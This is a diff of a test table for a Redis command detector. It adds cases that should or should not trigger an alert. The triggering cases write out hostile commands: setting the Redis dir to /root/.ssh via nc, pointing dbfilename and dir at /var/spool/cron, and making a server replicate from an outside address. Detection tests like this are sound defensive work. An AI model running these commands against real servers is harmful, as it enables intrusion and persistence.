@@ -18,8 +18,11 @@ indicatorTable(commandRedisFile, {
     ),
     'over a plain connection': script(`printf 'CONFIG SET dir /root/.ssh\\r\\n' | nc -w 2 192.0.2.9 6379`),
     'two settings in one': script('redis-cli config set dbfilename root dir /var/spool/cron'),
+    'a server outside that it follows': script('redis-cli -h sessions.web.svc replicaof 203.0.113.7 6379'),
   },
   staysSilent: {
+    'a server of the cluster that it follows': script('redis-cli -h redis-1 replicaof redis-0.redis 6379'),
+    'a copy that is ended': script('redis-cli -h redis-1 replicaof no one'),
     'the place where data lies': runs('redis-cli', 'config', 'set', 'dir', '/data'),
     'a limit of memory': script('redis-cli -h redis config set maxmemory 2gb'),
     'the setting is read': script('redis-cli config get dir'),
